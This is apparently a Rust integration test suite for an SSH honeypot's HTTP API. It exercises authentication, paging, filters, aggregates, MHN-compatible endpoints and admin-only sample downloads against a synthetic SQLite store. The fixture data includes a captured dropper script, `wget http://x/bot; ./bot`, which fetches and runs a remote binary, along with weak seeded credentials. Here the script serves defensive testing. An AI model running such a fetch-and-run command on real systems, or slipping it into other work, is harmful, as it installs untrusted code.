//! The API over a real SQLite store on 127.0.0.1: auth, every `/api/v1/` endpoint, the MHN paths, OpenAPI.

use std::collections::HashSet;
use std::net::SocketAddr;

use chrono::{DateTime, Duration, Utc};
use event::{AuthMethod, Event, FileInfo, Fingerprint, Kind};
use reqwest::StatusCode;
use serde_json::Value;
use store::{Batch, Blob, Geo, Record, Store};

const SAMPLE: &[u8] = b"#!/bin/sh\nwget http://x/bot; ./bot\n";

fn rec(sensor: &str, session: &str, ip: &str, ts: DateTime<Utc>, kind: Kind) -> Record {
    Record {
        event: Event {
            id: event::id::new_id(),
            ts,
            sensor: sensor.into(),
            honeypot: if sensor == "s1" { "apiary-ssh" } else { "cowrie" }.into(),
            session: session.into(),
            proto: "ssh".into(),
            src_ip: ip.parse().unwrap(),
            src_port: 40000,
            dst_ip: None,
            dst_port: if sensor == "s1" { 22 } else { 2222 },
            kind,
        },
        received: ts,
        channel: "apiary.events".into(),
        ident: format!("{sensor}-ident"),
        geo: Geo {
            country: Some(if ip.contains(':') { "DE" } else { "NL" }.into()),
            asn: Some(64500),
            ..Geo::default()
        },
    }
}

fn start() -> Kind {
    Kind::SessionStart {
        client_version: Some("SSH-2.0-Go".into()),
        hassh: None,
        hassh_algorithms: None,
    }
}

fn auth(user: &str, pass: &str) -> Kind {
    Kind::Auth {
        username: user.into(),
        password: Some(pass.into()),
        key_fingerprint: None,
        method: AuthMethod::Password,
        success: false,
    }
}

struct Api {
    base: String,
    admin: String,
    reader: String,
    http: reqwest::Client,
    _dir: tempfile::TempDir,
}

impl Api {
    async fn get(&self, path: &str, key: Option<&str>) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
        let mut req = self.http.get(format!("{}{path}", self.base));
        if let Some(k) = key {
            req = req.bearer_auth(k);
        }
        let r = req.send().await.unwrap();
        let (s, h) = (r.status(), r.headers().clone());
        (s, h, r.bytes().await.unwrap().to_vec())
    }

    async fn json(&self, path: &str) -> Value {
        let (s, _, b) = self.get(path, Some(&self.admin)).await;
        assert_eq!(s, StatusCode::OK, "{path}: {}", String::from_utf8_lossy(&b));
        serde_json::from_slice(&b).unwrap()
    }
}

async fn start_api() -> Api {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("apiary.db").display());
    let st = Store::open(&url, dir.path()).await.unwrap();
    let t = Utc::now() - Duration::hours(1);
    let s = |n: i64| t + Duration::seconds(n);
    let mut records = Vec::new();
    // Five IPv4 sessions on s1, three IPv6 sessions on s2.
    for i in 0..5 {
        let sid = format!("a{i}");
        records.push(rec("s1", &sid, "203.0.113.7", s(i * 10), start()));
        records.push(rec("s1", &sid, "203.0.113.7", s(i * 10 + 1), auth("root", "123456")));
    }
    for i in 0..3 {
        let sid = format!("b{i}");
        records.push(rec("s2", &sid, "2001:db8::5", s(100 + i * 10), start()));
        records.push(rec("s2", &sid, "2001:db8::5", s(101 + i * 10), auth("admin", "admin")));
    }
    records.push(rec(
        "s1",
        "a0",
        "203.0.113.7",
        s(3),
        Kind::Command {
            input: "uname -a".into(),
            recognized: true,
        },
    ));
    records.push(rec(
        "s1",
        "a0",
        "203.0.113.7",
        s(4),
        Kind::FileDownload(FileInfo {
            url: Some("http://x/bot".into()),
            ..FileInfo::default()
        }),
    ));
    records.push(rec(
        "s2",
        "",
        "2001:db8::5",
        s(200),
        Kind::Fingerprint(Fingerprint {
            tool: "p0f".into(),
            os: Some("Linux 3.x".into()),
            ..Fingerprint::default()
        }),
    ));
    let batch = Batch {
        records,
        blobs: vec![Blob {
            bytes: bytes::Bytes::from_static(SAMPLE),
            received: t,
            mime: None,
        }],
    };
    st.insert(&batch).await.unwrap();
    st.set_hostnames(&[store::HostnameResult {
        ip: "2001:db8::5".parse().unwrap(),
        hostname: Some("scanner6.example.net".into()),
        confirmed: true,
        checked: t,
    }])
    .await
    .unwrap();
    let admin = st.create_api_key("admin", false).await.unwrap();
    let reader = st.create_api_key("reader", true).await.unwrap();
    let app = server::router(server::ApiState::new(st));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr: SocketAddr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    Api {
        base: format!("http://{addr}"),
        admin,
        reader,
        http: reqwest::Client::new(),
        _dir: dir,
    }
}

#[tokio::test]
async fn auth_headers_and_openapi() {
    let api = start_api().await;
    let (s, h, b) = api.get("/api/v1/sensors", None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    assert_eq!(h["www-authenticate"], "Bearer");
    let err: Value = serde_json::from_slice(&b).unwrap();
    assert!(err["error"].as_str().unwrap().contains("Bearer"));
    let (s, _, _) = api.get("/api/v1/sensors", Some("nope")).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, h, _) = api.get("/api/v1/sensors", Some(&api.reader)).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "application/json");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(
        h.get_all("x-content-type-options").iter().count(),
        1,
        "one nosniff header"
    );
    assert_eq!(h["cache-control"], "no-store");
    assert_eq!(h.get_all("cache-control").iter().count(), 1, "one cache-control header");
    // `api_key` and `apikey:` work on MHN paths only.
    let (s, _, _) = api.get(&format!("/api/session/?api_key={}", api.reader), None).await;
    assert_eq!(s, StatusCode::OK);
    let (s, _, _) = api.get(&format!("/api/v1/sensors?api_key={}", api.reader), None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let r = api
        .http
        .get(format!("{}/api/credentials/", api.base))
        .header("apikey", &api.reader)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    // The document is public and every path it lists answers (not 404 for a missing route).
    let (s, _, b) = api.get("/api/openapi.json", None).await;
    assert_eq!(s, StatusCode::OK);
    let doc: Value = serde_json::from_slice(&b).unwrap();
    let paths = doc["paths"].as_object().unwrap();
    assert_eq!(paths.len(), 37);
    for (p, ops) in paths {
        // Only GET operations are probed here; streams and dashboard paths have their own tests (tests/web.rs).
        if ops.get("get").is_none() || p.ends_with("/live") {
            continue;
        }
        let concrete = p
            .replace("{id}", "s1/a0")
            .replace("{ip}", "203.0.113.7")
            .replace("{dim}", "attackers")
            .replace("{hash}", &"0".repeat(64));
        let (s, _, b) = api.get(&concrete, Some(&api.admin)).await;
        let body = String::from_utf8_lossy(&b);
        assert!(
            s == StatusCode::OK || body.contains("\"error\""),
            "{concrete}: {s} {body}"
        );
        assert!(s == StatusCode::OK || p.contains("{hash}"), "{concrete}: {s} {body}");
    }
}

#[tokio::test]
async fn download_is_admin_only_with_exact_headers() {
    let api = start_api().await;
    let files = api.json("/api/v1/files").await;
    let sha = files["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["stored"] == true)
        .and_then(|f| f["sha256"].as_str())
        .unwrap()
        .to_owned();
    let path = format!("/api/v1/files/{sha}/download");
    let (s, _, _) = api.get(&path, Some(&api.reader)).await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, h, b) = api.get(&path, Some(&api.admin)).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(h["content-type"], "application/octet-stream");
    assert_eq!(h["content-disposition"], format!("attachment; filename=\"{sha}.bin\""));
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(b, SAMPLE);
    let meta = api.json(&format!("/api/v1/files/{sha}")).await;
    assert_eq!(meta["size"], SAMPLE.len());
    let (s, _, _) = api.get("/api/v1/files/zz/download", Some(&api.admin)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn sessions_filters_and_paging() {
    let api = start_api().await;
    let mut seen = HashSet::new();
    let mut path = "/api/v1/sessions?limit=3".to_owned();
    for _ in 0..10 {
        let page = api.json(&path).await;
        for it in page["items"].as_array().unwrap() {
            assert!(seen.insert(it["id"].as_str().unwrap().to_owned()), "duplicate {it}");
        }
        match page["next"].as_str() {
            Some(n) => path = format!("/api/v1/sessions?limit=3&after={n}"),
            None => break,
        }
    }
    assert_eq!(seen.len(), 8);
    let v6 = api.json("/api/v1/sessions?src=2001:db8::/32").await;
    assert_eq!(v6["items"].as_array().unwrap().len(), 3);
    assert_eq!(v6["items"][0]["sensor"], "s2");
    let v4 = api.json("/api/v1/sessions?src=203.0.113.0/24&port=22&sensor=s1").await;
    assert_eq!(v4["items"].as_array().unwrap().len(), 5);
    let dl = api.json("/api/v1/sessions?has_download=true").await;
    assert_eq!(dl["items"].as_array().unwrap().len(), 1);
    let user = api.json("/api/v1/sessions?username=admin&hours=3").await;
    assert_eq!(user["items"].as_array().unwrap().len(), 3);
    let (s, _, b) = api.get("/api/v1/sessions?src=10.0.0.0/33", Some(&api.admin)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert!(String::from_utf8_lossy(&b).contains("CIDR"));
    let (s, h, b) = api.get("/api/v1/attackers/%FF", Some(&api.admin)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    assert_eq!(h["content-type"], "application/json");
    assert!(serde_json::from_slice::<Value>(&b).unwrap()["error"].is_string());
    let (s, _, _) = api.get("/api/v1/sessions?limit=501", Some(&api.admin)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    // Detail by `sensor/session`, plain and encoded.
    let d = api.json("/api/v1/sessions/s1/a0").await;
    assert_eq!(d["session"]["id"], "s1/a0");
    assert!(d["timeline"].as_array().unwrap().len() >= 4);
    let d2 = api.json("/api/v1/sessions/s1%2Fa0").await;
    assert_eq!(d2["session"]["id"], "s1/a0");
    let (s, _, _) = api.get("/api/v1/sessions/s9/zz", Some(&api.admin)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn v1_aggregates() {
    let api = start_api().await;
    let top = api.json("/api/v1/top/attackers").await;
    assert_eq!(top["items"][0]["key"], "203.0.113.7");
    let users = api.json("/api/v1/top/usernames?limit=1").await;
    assert_eq!(users["items"].as_array().unwrap().len(), 1);
    assert_eq!(users["items"][0]["key"], "root");
    let (s, _, _) = api.get("/api/v1/top/bogus", Some(&api.admin)).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let a = api.json("/api/v1/attackers/2001:db8::5").await;
    assert_eq!(a["sessions"], 3);
    assert_eq!(a["fingerprint"]["hostname"], "scanner6.example.net");
    assert_eq!(a["fingerprint"]["hostname_confirmed"], true);
    assert_eq!(a["fingerprint"]["os"], "Linux 3.x");
    let totals = api.json("/api/v1/totals").await;
    assert_eq!(totals["sessions"], 8);
    let series = api.json("/api/v1/series?bucket=hour&hours=3").await;
    assert!(!series["items"].as_array().unwrap().is_empty());
    let sensors = api.json("/api/v1/sensors").await;
    assert_eq!(sensors["items"].as_array().unwrap().len(), 2);
    let feed = api.json("/api/v1/feed?kind=auth&src=2001:db8::5").await;
    assert_eq!(feed["items"].as_array().unwrap().len(), 3);
    let meta = api.json("/api/v1/metadata?ip=2001:db8::5").await;
    assert_eq!(meta["items"][0]["os"], "Linux 3.x");
    assert_eq!(meta["items"][0]["hostname"], "scanner6.example.net");
}

#[tokio::test]
async fn mhn_paths() {
    let api = start_api().await;
    let s = api
        .json("/api/session/?hours_ago=3&source_ip=2001:db8::5&limit=2")
        .await;
    let data = s["data"].as_array().unwrap();
    assert_eq!(data.len(), 2);
    assert_eq!(data[0]["source_ip"], "2001:db8::5");
    assert_eq!(data[0]["destination_port"], 2222);
    assert_eq!(data[0]["identifier"], "s2");
    assert!(data[0]["timestamp"].as_str().unwrap().ends_with('Z'));
    assert_eq!(s["meta"]["size"], 2);
    let (st, _, b) = api.get("/api/session/?bogus=1", Some(&api.admin)).await;
    assert_eq!(st, StatusCode::BAD_REQUEST);
    assert!(String::from_utf8_lossy(&b).contains("hours_ago"));

    let top = api.json("/api/top_attackers/?hours_ago=3").await;
    let rows = top["data"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0]["source_ip"], "203.0.113.7");
    let one = api.json("/api/top_attackers/?hours_ago=3&limit=1").await;
    assert_eq!(one["data"].as_array().unwrap().len(), 1);
    let ne = api
        .json("/api/top_attackers/?hours_ago=3&ne__source_ip=203.0.113.7")
        .await;
    assert_eq!(ne["data"][0]["source_ip"], "2001:db8::5");
    assert_eq!(ne["data"].as_array().unwrap().len(), 1);
    let big = rows[0]["count"].as_u64().unwrap();
    let gte = api
        .json(&format!("/api/top_attackers/?hours_ago=3&gte__count={big}"))
        .await;
    assert_eq!(gte["data"].as_array().unwrap().len(), 1);

    let stats = api.json("/api/attacker_stats/203.0.113.7/").await;
    assert_eq!(stats["data"]["honeypots"][0], "apiary-ssh");
    assert_eq!(stats["data"]["ports"][0], 22);

    let feed = api
        .json("/api/feed/?channel=apiary.events&ident=s2-ident&limit=100")
        .await;
    let items = feed["data"].as_array().unwrap();
    assert!(!items.is_empty());
    assert!(items
        .iter()
        .all(|i| i["ident"] == "s2-ident" && i["payload"].is_string()));

    let intel = api.json("/api/intel_feed/?hours_ago=3").await;
    assert_eq!(intel["data"].as_array().unwrap().len(), 2);
    let (st, h, b) = api.get("/api/intel_feed.csv/?hours_ago=3", Some(&api.admin)).await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(h["content-type"], "text/csv; charset=utf-8");
    let csv = String::from_utf8(b).unwrap();
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("source_ip,count,tags,protocols,ports,honeypots"));
    assert!(lines.next().unwrap().starts_with("203.0.113.7,"));

    let creds = api.json("/api/credentials/?source_ip=2001:db8::5").await;
    assert_eq!(creds["data"].as_array().unwrap().len(), 3);
    assert_eq!(creds["data"][0]["username"], "admin");
    let urls = api.json("/api/url/").await;
    assert_eq!(urls["data"][0]["url"], "http://x/bot");
    let files = api.json("/api/file/").await;
    assert!(!files["data"].as_array().unwrap().is_empty());
    let meta = api.json("/api/metadata/?ip=2001:db8::5").await;
    assert_eq!(meta["data"][0]["os"], "Linux 3.x");
    assert_eq!(meta["data"][0]["hostname"], "scanner6.example.net");
    assert_eq!(meta["data"][0]["hostname_confirmed"], true);
}

#[tokio::test]
async fn file_sessions_list_the_droppers_newest_first() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("apiary.db").display());
    let st = Store::open(&url, dir.path()).await.unwrap();
    let (sha256, md5) = ("ab".repeat(32), "cd".repeat(16));
    let file = || FileInfo {
        url: Some("http://x/bot".into()),
        sha256: Some(sha256.clone()),
        md5: Some(md5.clone()),
        size: 10,
        ..FileInfo::default()
    };
    let t = Utc::now() - Duration::hours(1);
    let mut records = Vec::new();
    for (i, (sensor, ip)) in [("s1", "203.0.113.7"), ("s2", "2001:db8::5"), ("s1", "203.0.113.8")]
        .into_iter()
        .enumerate()
    {
        let sid = format!("d{i}");
        let at = t + Duration::seconds(i as i64 * 10);
        records.push(rec(sensor, &sid, ip, at, start()));
        records.push(rec(
            sensor,
            &sid,
            ip,
            at + Duration::seconds(1),
            Kind::FileDownload(file()),
        ));
    }
    // Delivered twice: the second copy adds nothing.
    let batch = Batch {
        records,
        blobs: Vec::new(),
    };
    st.insert(&batch).await.unwrap();
    st.insert(&batch).await.unwrap();
    let reader = st.create_api_key("reader", true).await.unwrap();
    let app = server::router(server::ApiState::new(st));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr: SocketAddr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    let api = Api {
        base: format!("http://{addr}"),
        admin: reader.clone(),
        reader,
        http: reqwest::Client::new(),
        _dir: dir,
    };
    // Any authenticated reader (the key is read-only), by SHA-256 or MD5, two pages.
    let (s, _, _) = api.get(&format!("/api/v1/files/{sha256}/sessions"), None).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let first = api.json(&format!("/api/v1/files/{md5}/sessions?limit=2")).await;
    let items = first["items"].as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert_eq!(items[0]["session_id"], "s1/d2");
    assert_eq!(items[0]["src_ip"], "203.0.113.8");
    assert_eq!(items[0]["sensor"], "s1");
    assert!(items[0]["ts"].as_str().unwrap().ends_with('Z'));
    assert_eq!(items[1]["session_id"], "s2/d1");
    assert_eq!(items[1]["src_ip"], "2001:db8::5");
    let next = first["next"].as_str().unwrap();
    let second = api
        .json(&format!(
            "/api/v1/files/{}/sessions?limit=2&after={next}",
            sha256.to_uppercase()
        ))
        .await;
    assert_eq!(second["items"].as_array().unwrap().len(), 1);
    assert_eq!(second["items"][0]["session_id"], "s1/d0");
    assert!(second["next"].is_null());
    // Unknown file, bad hash, bad cursor.
    let (s, _, _) = api
        .get(&format!("/api/v1/files/{}/sessions", "0".repeat(40)), Some(&api.reader))
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _, _) = api.get("/api/v1/files/zz/sessions", Some(&api.reader)).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let (s, _, _) = api
        .get(&format!("/api/v1/files/{sha256}/sessions?after=!!"), Some(&api.reader))
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
}
